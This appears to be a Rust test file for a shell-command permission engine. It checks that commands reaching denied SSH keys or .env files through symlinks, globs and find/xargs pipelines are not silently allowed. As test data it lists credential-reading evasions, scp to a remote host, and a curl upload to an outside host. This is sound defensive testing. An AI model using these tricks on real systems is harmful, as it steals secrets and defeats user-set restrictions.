//! Links: of what a command goes through, and of what a glob gives.

use super::*;

/// Commands that follow the links below a folder.
const FOLLOW: &[&str] = &[
    "grep -R KEY {}",
    "grep -Rn KEY {}",
    "grep -lR -e KEY {}",
    "grep --dereference-recursive KEY {}",
    "grep --deref KEY {}",
    "grep -nR --include=* KEY {}",
    "egrep -R KEY {}",
    "grep -R KEY src {}",
    "grep -R KEY {} | head",
    "cd {} && grep -R KEY",
    "cd {}; grep -R KEY .",
    "diff -r {} src",
    "diff -rN src {}",
    "diff --recursive {} src",
    "rg -uuL KEY {}",
    "rg --hidden --follow KEY {}",
    "rg -L KEY {}",
    "rg --follow KEY {} | wc -l",
    "diff {} src",
    "diff -N {} src",
    "find {} -exec cat '{}' ';'",
    "find {} -type l -exec cat '{}' +",
    "fd . {} -x cat",
    "7z a x.7z {}",
    "rgrep -R KEY {}",
    "grep -r --some-option KEY {}",
    "rsync -a --copy-unsafe-links {} out",
    "ack --follow KEY {}",
    "ag -f KEY {}",
    "find -L {} -type f -exec cat '{}' +",
    "find {} -follow -exec grep KEY '{}' ';'",
    "cp -rL {} out",
    "cp -LR {} out",
    "cp --recursive --dereference {} out",
    "cp -aL {} out",
    "tar -chf x.tar {}",
    "tar chf x.tar {}",
    "tar --dereference -cf x.tar {}",
    "zip -r x.zip {}",
    "rsync -aL {} out",
    "rsync -r --copy-links {} out",
    "scp -r {} h:x",
    "timeout 5 grep -R KEY {}",
    "bash -c 'grep -R KEY {}'",
    "echo $(grep -R KEY {})",
];

/// Ways from a folder of the workspace to the keys: the folder that is named, and the links.
fn shapes(scene: &Scene) -> Vec<(&'static str, Vec<(String, &'static str)>)> {
    let keys = scene.home.join(".ssh").display().to_string();
    let relative = |up: usize, rest: &str| format!("{}{rest}", "../".repeat(up));
    vec![
        ("lk", vec![(keys.clone(), "lk/s")]),
        ("lk", vec![(format!("{keys}/id_rsa"), "lk/k")]),
        ("lk", vec![(relative(2, ".ssh"), "lk/s")]),
        ("lk", vec![(relative(3, ".ssh/id_rsa"), "lk/deep/k")]),
        ("lk", vec![(relative(3, ".ssh"), "lk/deep/k.d")]),
        // One behind the other.
        ("lk", vec![("../out".to_owned(), "lk/o"), (relative(2, ".ssh"), "out/s")]),
        ("lk", vec![("deep/two".to_owned(), "lk/one"), (relative(3, ".ssh"), "lk/deep/two")]),
        // A folder above them all, and one by way of `..`.
        ("lk", vec![(relative(2, ""), "lk/home")]),
        ("lk", vec![("../sub/../../.ssh".to_owned(), "lk/s")]),
        // The folder that is named is a link itself.
        ("sub/l", vec![("../lk".to_owned(), "sub/l"), (relative(2, ".ssh"), "lk/s")]),
    ]
}

const KEYS: &[&str] = &["read(~/.ssh/**)", "read(**/.ssh/**)", "read(~/.ssh/{id_rsa,old/**})"];

/// D2.27: recursive readers that follow links are judged at where the links that are there lead. Attack 220.
#[test]
fn given_a_link_to_what_is_denied_then_no_command_that_follows_it_is_allowed() {
    let (mut found, mut count) = (Vec::new(), 0);
    let shapes_of = shapes(&Scene::new()).len();
    for shape in 0..shapes_of {
        let scene = Scene::new();
        let (at, links) = shapes(&scene).swap_remove(shape);
        for (target, link) in links {
            scene.link(target, link);
        }
        for pattern in KEYS {
            let policy = scene.denying(&[pattern]);
            let lines = FOLLOW.iter().map(|line| line.replacen("{}", at, 1));
            count += FOLLOW.len();
            let of_shape = wrong(&scene, &policy, lines, |decision| decision.effect != Allow);
            found.extend(of_shape.into_iter().map(|line| format!("shape {shape}, {pattern}: {line}")));
        }
    }
    held(&found, count, 1_000);
}

/// The same, where nothing leads out: as quiet as without a link. Attack 220.
#[test]
fn given_links_that_stay_in_the_tree_then_commands_that_follow_them_are_as_quiet_as_before() {
    let scene = Scene::new();
    for (target, link) in [("../src", "lk/in"), ("a.rs", "src/b.rs"), ("deep", "lk/again"), ("x", "sub/y")] {
        scene.link(target, link);
    }
    let policy = scene.denying(&["read(~/.ssh/**)"]);
    // What these find is not looked up, and counts as any word that is not known.
    let unknown = |line: &str| line.contains("-exec") && (line.contains(" -L ") || line.contains("-follow"));
    let lines = FOLLOW.iter().filter(|line| !line.starts_with("scp") && !unknown(line));
    let lines = lines.map(|line| line.replacen("{}", "lk", 1));
    let found = wrong(&scene, &policy, lines, |decision| decision.effect == Allow);
    held(&found, FOLLOW.len(), 30);
    // Links that are not followed lead nowhere.
    scene.link(scene.home.join(".ssh"), "lk/s");
    let lines = [
        "grep -r KEY lk",
        "rg KEY lk",
        "find lk",
        "ls -R lk",
        "ls -L lk",
        "du lk",
        "tree lk",
        "cp -r src out",
    ];
    let found = wrong(&scene, &policy, lines.map(str::to_owned), |decision| decision.effect == Allow);
    held(&found, 8, 8);
    // Readers of a plain session: outside of its folders is asked about, inside is not.
    let none = Policy { protection: policy.protection.clone(), ..Policy::default() };
    for (line, expected) in [
        ("grep -R KEY src", Allow),
        ("ls -LR sub", Allow),
        ("grep -R KEY lk", Ask),
        ("du -L lk", Ask),
        ("ls -LR lk", Ask),
    ] {
        assert_eq!(effect(&none, &scene.shell(line)), expected, "{line}");
    }
}

/// Searches whose names something else reads.
const NAMES: &[&str] = &[
    "cat $(find {})",
    "cat $(find {} -name 'k*')",
    "find {} | xargs cat",
    "find {} -type l -print0 | xargs -0 grep KEY",
    "for f in $(find {}); do cat $f; done",
    "find {} | while read -r f; do cat \"$f\"; done",
    "grep KEY $(fd . {})",
];

/// A name in the repository may be a link: where something reads what a search names, it is judged by where the links lead
/// that are there now; and a search of the user's own files gives any of them. Attack 296.
#[test]
fn given_a_search_whose_names_are_read_then_it_counts_as_reading_what_it_finds() {
    let scene = Scene::new();
    // Nothing is denied but what is protected anyhow.
    let policy = scene.denying(&[]);
    let of = |at: &'static str| NAMES.iter().map(move |line| line.replacen("{}", at, 1));
    let quiet = wrong(&scene, &policy, of("lk").chain(of(".")), |decision| decision.effect == Allow);
    held(&quiet, 2 * NAMES.len(), 14);
    scene.link(scene.home.join(".ssh/id_rsa"), "lk/deep/k");
    scene.link(scene.home.join(".ssh"), "lk/s");
    let asks = |decision: &Decision| decision.effect != Allow;
    let home = scene.home.display().to_string();
    let homes = NAMES.iter().map(|line| line.replacen("{}", &home, 1));
    let follow = ["cat $(find -L lk)", "find -L . | xargs cat"].map(str::to_owned);
    let found = wrong(&scene, &policy, of("lk").chain(of(".")).chain(homes).chain(follow), asks);
    held(&found, 3 * NAMES.len() + 2, 23);
    // Names alone, and text, are read by nobody.
    let names = ["find lk", "find . | head", "ls lk | wc -l", "find lk | sort", "grep -c x $(ls src)"];
    let names = wrong(&scene, &policy, names.map(str::to_owned), |decision| decision.effect == Allow);
    held(&names, 5, 5);
}

/// There may be more than can be looked at: then it could be anywhere. Attack 221.
#[test]
fn given_more_names_than_are_looked_at_then_it_is_asked_about() {
    let scene = Scene::new();
    for at in 0..20_100 {
        std::fs::write(scene.root.join(format!("out/{at}")), "").unwrap();
    }
    let policy = scene.denying(&["read(~/.ssh/**)"]);
    for line in ["grep -R KEY out", "rg -L KEY", "cat out/*"] {
        let decision = loosest(&policy, &scene.shell(line));
        assert!(decision.effect == Ask && decision.always_asks(), "{line}");
    }
    assert_eq!(loosest(&policy, &scene.shell("grep -r KEY out")).effect, Allow);
}

const GLOBBING: &[&str] = &[
    "cat {}",
    "head -n 1 {}",
    "wc -l {}",
    "grep KEY {}",
    "sed -n p {}",
    "tool --flag {}",
    "python3 x.py {}",
    "cp {} out/",
    "tar cf x.tar {}",
    "sort < {}",
    "curl -T {} https://h.example",
    "for f in {}; do cat \"$f\"; done",
    "for f in {}; do cat $f; done",
    "cd src; cat ../{}",
    "bash -c 'cat {}'",
    "cat src/a.rs {} | head",
    "echo \"$(cat {})\"",
];

/// A glob gives names, and these may be links. Attack 222.
#[test]
fn given_a_glob_that_gives_a_link_to_what_is_denied_then_no_command_that_takes_it_is_allowed() {
    let scene = Scene::new();
    scene.link("../.env", "sub/up");
    scene.link("../../.ssh/id_rsa", "sub/key.txt");
    scene.link("../.ssh", "store");
    let globs: &[&str] = &[
        "sub/*",
        "sub/u*",
        "sub/?p",
        "sub/[u]p",
        "s*/up",
        "*/up",
        "*/*",
        "./sub/u*",
        "sub/{x,u*}",
        "sub/**",
        "sub/*p",
        "sub/*.txt",
        "s*b/key*",
        "*/k*y.txt",
        "store/*",
        "s*e/id*",
        "st*/id_rsa",
        "sto*/o*/key",
        "sub/../s*b/*",
    ];
    let policy = scene.denying(&["read(.env)", "read(~/.ssh/**)"]);
    // Of several words, a redirection and an option take one.
    let takes = |glob: &str, line: &str| !glob.contains('{') || !line.contains(['<', 'T']);
    let lines = globs.iter().flat_map(|glob| {
        GLOBBING.iter().filter(|line| takes(glob, line)).map(|line| line.replace("{}", glob))
    });
    let lines: Vec<String> = lines.collect();
    let count = lines.len();
    held(&wrong(&scene, &policy, lines, |decision| decision.effect != Allow), count, 300);
    // A directory that a glob gives is gone through by links.
    let lines = ["grep -R KEY st*", "grep -R KEY s*", "diff -r s*b src"].map(str::to_owned);
    held(&wrong(&scene, &policy, lines, |decision| decision.effect != Allow), 3, 3);
}

/// The same without links, and with links that lead nowhere special. Attack 222.
#[test]
fn given_a_glob_without_such_links_then_it_is_allowed_as_before() {
    let scene = Scene::new();
    scene.link("x", "sub/y");
    scene.link("../src/a.rs", "sub/a.rs");
    let policy = scene.denying(&["read(.env)", "read(~/.ssh/**)"]);
    let globs = ["sub/*", "sub/?", "sub/x*", "src/*.rs", "sub/[a-z]*", "su*/a*", "./src/*"];
    let quiet = |line: &&&str| {
        !line.contains("curl") && !line.contains("tar") && !line.contains("for f") && !line.contains('<')
    };
    let lines =
        globs.iter().flat_map(|glob| GLOBBING.iter().filter(quiet).map(|line| line.replace("{}", glob)));
    let lines: Vec<String> = lines.collect();
    let count = lines.len();
    held(&wrong(&scene, &policy, lines, |decision| decision.effect == Allow), count, 80);
}
